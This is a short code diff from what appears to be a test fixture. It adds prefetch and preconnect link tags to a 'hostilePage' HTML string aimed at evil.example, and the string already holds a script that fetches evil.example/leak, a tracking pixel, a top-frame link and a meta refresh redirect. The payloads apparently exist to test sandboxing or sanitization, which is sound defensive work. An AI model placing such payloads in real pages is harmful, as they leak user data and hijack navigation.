@@ -23,7 +23,8 @@ export const hostileTexts = [
 ] as const;
 
 const hostilePage =
-  '<!doctype html><h1>Report</h1><script>parent.alert(7);fetch("https://evil.example/leak")</script>' +
+  '<!doctype html><link rel="preconnect" href="https://evil.example"><link rel="dns-prefetch" href="//evil.example">' +
+  '<link rel="prefetch" href="https://evil.example/next"><h1>Report</h1><script>parent.alert(7);fetch("https://evil.example/leak")</script>' +
   '<img src="https://evil.example/pixel.png"><a href="https://evil.example" target="_top">go</a>' +
   '<meta http-equiv="refresh" content="0;url=https://evil.example">';
 const hostileSvg =
